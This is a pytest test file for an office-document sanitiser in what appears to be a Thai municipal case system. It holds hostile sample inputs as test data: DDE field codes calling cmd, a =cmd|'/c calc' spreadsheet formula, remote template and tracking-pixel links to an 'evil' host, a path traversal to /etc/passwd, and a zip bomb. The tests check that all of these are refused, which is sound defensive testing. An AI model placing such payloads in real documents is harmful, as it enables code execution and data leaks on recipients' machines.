"""Word and Excel files: what is accepted and written anew, what is refused with which reason, and their text."""

import io
import zipfile
from collections.abc import Callable, Mapping

import pytest
from django.test import Client
from docx import Document as WordDocument
from openpyxl import Workbook

from central.cases.attachments import prepare_files
from central.cases.errors import NotAllowedError
from central.cases.file_cleaning import clean_file
from central.cases.models import Attachment
from central.cases.office_cleaning import EXCEL, OLE_START, WORD, office_lines
from central.cases.refusals import Refusal, RefusedFileError
from central.centres.models import Centre, Officer
from central.documents.models import DocumentPage
from central.documents.tasks import QUEUE
from tests.unit.central.citizen_page import upload
from tests.unit.central.documents.stored_files import attach
from tests.unit.central.page_text import page_text
from tests.unit.central.queued_tasks import run_queued_tasks


def word(text: str = "ขอส่งรายงานผลการซ่อมถนน") -> bytes:
    document, output = WordDocument(), io.BytesIO()
    document.core_properties.author = "สมชาย ผู้เขียน"
    document.add_paragraph(text)
    document.add_table(1, 2).cell(0, 1).text = "ตาราง"
    document.save(output)
    return output.getvalue()


def excel() -> bytes:
    workbook, output = Workbook(), io.BytesIO()
    workbook.create_sheet().append(["หมู่", "จำนวน", 3])
    workbook.save(output)
    return output.getvalue()


def changed(content: bytes, parts: Mapping[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """The package with parts added, or changed by a function."""
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            change = parts.get(name)
            after.writestr(name, change(before.read(name)) if callable(change) else before.read(name))
        for name, part in parts.items():
            if not callable(part):
                after.writestr(name, part)
    return output.getvalue()


def in_part(name: str, old: bytes, new: bytes) -> Mapping[str, Callable[[bytes], bytes]]:
    def change(part: bytes) -> bytes:
        assert old in part
        return part.replace(old, new)

    return {name: change}


def refusal_of(content: bytes) -> Refusal:
    with pytest.raises(RefusedFileError) as refused:
        clean_file(content, from_offices=True)
    return refused.value.refusal


def test_a_file_is_written_anew_without_its_author_and_opens(tmp_path: object) -> None:
    media_type, clean, _ = clean_file(b"" + word() + b"behind the file", from_offices=True)
    assert media_type == WORD
    assert "สมชาย".encode() not in zipfile.ZipFile(io.BytesIO(clean)).read("docProps/core.xml")
    assert b"behind the file" not in clean
    opened = WordDocument(io.BytesIO(clean))
    assert (opened.paragraphs[0].text, opened.tables[0].cell(0, 1).text) == ("ขอส่งรายงานผลการซ่อมถนน", "ตาราง")
    assert office_lines(clean, WORD) == ["ขอส่งรายงานผลการซ่อมถนน", "ตาราง"]
    media_type, clean, _ = clean_file(excel(), from_offices=True)
    assert (media_type, office_lines(clean, EXCEL)) == (EXCEL, ["หมู่ · จำนวน · 3"])
    assert clean_file(excel(), from_offices=True)[1] == clean, "equal for an equal file"


_LINK = b'<Relationship Id="rId99" Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
_INSIDE = b'<Relationship Id="rId99" Type="http://x/%s" Target="%s"/></Relationships>'
_RELS = "word/_rels/document.xml.rels"


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        ({"word/vbaProject.bin": b"x"}, Refusal.ACTIVE_CONTENT),
        ({"word/embeddings/oleObject1.bin": b"x"}, Refusal.ACTIVE_CONTENT),
        ({"word/media/run.exe": b"MZ"}, Refusal.ACTIVE_CONTENT),
        (
            in_part(_RELS, b"</Relationships>", _LINK % (b"attachedTemplate", b"https://evil/x.dotm")),
            Refusal.ACTIVE_CONTENT,
        ),
        (in_part(_RELS, b"</Relationships>", _LINK % (b"image", b"https://evil/pixel.png")), Refusal.ACTIVE_CONTENT),
        (in_part(_RELS, b"</Relationships>", _LINK % (b"hyperlink", b"file:///c:/x")), Refusal.ACTIVE_CONTENT),
        (
            in_part(
                "word/document.xml",
                b"<w:body>",
                b"<w:body><w:p><w:r><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText></w:r></w:p>",
            ),
            Refusal.ACTIVE_CONTENT,
        ),
        (
            in_part(
                "word/document.xml",
                b"<w:body>",
                b"<w:body><w:p><w:r><w:instrText> PAGE</w:instrText><w:instrText>DDEAUTO c</w:instrText></w:r></w:p>",
            ),
            Refusal.ACTIVE_CONTENT,
        ),
        (
            in_part(
                "word/document.xml",
                b"<w:body>",
                b'<w:body><w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil/x"/></w:p>',
            ),
            Refusal.ACTIVE_CONTENT,
        ),
        (
            in_part(
                "word/document.xml",
                b"<w:body>",
                b'<w:body><x:instrText xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main">DDE c</x:instrText>',
            ),
            Refusal.ACTIVE_CONTENT,
        ),
        (
            {
                "word/_rels/settings.xml.RELS": b"<R>"
                + _LINK.removesuffix(b"</Relationships>") % (b"attachedTemplate", b"https://evil/x")
                + b"</R>"
            },
            Refusal.ACTIVE_CONTENT,
        ),
        (in_part(_RELS, b"</Relationships>", _INSIDE % (b"aFChunk", b"media/c.xml")), Refusal.ACTIVE_CONTENT),
        ({"word/media/c.rtf": b"{\\rtf}"}, Refusal.ACTIVE_CONTENT),
        (in_part("word/document.xml", b"<w:document", b"\0<w:document"), Refusal.DAMAGED),
        (in_part("word/document.xml", b"<w:document", b"<!DOCTYPE x [<!ENTITY a 'b'>]><w:document"), Refusal.DAMAGED),
        (in_part("word/document.xml", b"<w:body>", b"<w:body"), Refusal.DAMAGED),
        (
            in_part("[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml"),
            Refusal.ACTIVE_CONTENT,
        ),
        (in_part("[Content_Types].xml", b"document.main+xml", b"other.main+xml"), Refusal.UNKNOWN_TYPE),
        ({"../../etc/passwd": b"x"}, Refusal.DAMAGED),
        ({"word/media/bomb.xml": b"0" * (151 << 20)}, Refusal.TOO_MUCH_INSIDE),
    ],
)
def test_what_could_do_more_than_show_its_content_is_refused(
    parts: Mapping[str, bytes | Callable[[bytes], bytes]], expected: Refusal
) -> None:
    assert refusal_of(changed(word(), parts)) is expected


def test_a_link_to_click_stays() -> None:
    linked = changed(word(), in_part(_RELS, b"</Relationships>", _LINK % (b"hyperlink", b"https://example.go.th")))
    assert clean_file(linked, from_offices=True)[0] == WORD


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (OLE_START + bytes(600), Refusal.OLD_OFFICE),
        (OLE_START + "EncryptedPackage".encode("utf-16-le"), Refusal.ENCRYPTED),
        (b"PK\3\4" + bytes(100), Refusal.DAMAGED),
        (word()[:-400], Refusal.DAMAGED),
        (changed(excel(), {"xl/externalLinks/externalLink1.xml": b"<x/>"}), Refusal.ACTIVE_CONTENT),
    ],
)
def test_old_encrypted_cut_and_linked_files_are_refused(content: bytes, expected: Refusal) -> None:
    assert refusal_of(content) is expected


def test_a_formula_that_starts_a_program_is_refused() -> None:
    workbook, output = Workbook(), io.BytesIO()
    workbook.create_sheet()["A1"] = "=cmd|'/c calc'!A0"
    workbook.save(output)
    assert refusal_of(output.getvalue()) is Refusal.ACTIVE_CONTENT
    named = b"<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></workbook>"
    assert refusal_of(changed(excel(), in_part("xl/workbook.xml", b"</workbook>", named))) is Refusal.ACTIVE_CONTENT


def test_officers_may_attach_it_and_citizens_may_not(khonkaen: Centre) -> None:
    with pytest.raises(NotAllowedError, match="neither a photo"):
        prepare_files([upload(word(), "report.docx")])
    (clean,) = prepare_files([upload(word(), "รายงาน.pdf")], from_offices=True)
    assert (clean.media_type, clean.name) == (WORD, "รายงาน.docx")


@pytest.mark.django_db(transaction=True)
def test_its_text_is_read_by_the_worker(khonkaen: Centre) -> None:
    attachment = attach(khonkaen, word("ซ่อมหลุมหน้าโรงเรียนเสร็จแล้ว"), "report.docx")
    assert Attachment.objects.get(pk=attachment.pk).media_type == WORD
    run_queued_tasks(QUEUE)
    assert "ซ่อมหลุมหน้าโรงเรียนเสร็จแล้ว" in DocumentPage.objects.get(document__attachment=attachment).text


def test_the_page_of_the_file_shows_its_text_and_a_download(
    khonkaen: Centre, officer: Officer, desk_client: Client
) -> None:
    attachment = attach(khonkaen, word("ซ่อมแล้ว"), "report.docx")
    address = f"/desk/cases/{attachment.case.case_number}/files/{attachment.pk}"
    page = page_text(desk_client.get(f"{address}/text"))
    assert ("<img" in page, f'href="{address}"' in page) == (False, True)
    response = desk_client.get(address)
    assert (response["Content-Type"], "attachment" in response["Content-Disposition"]) == (WORD, True)
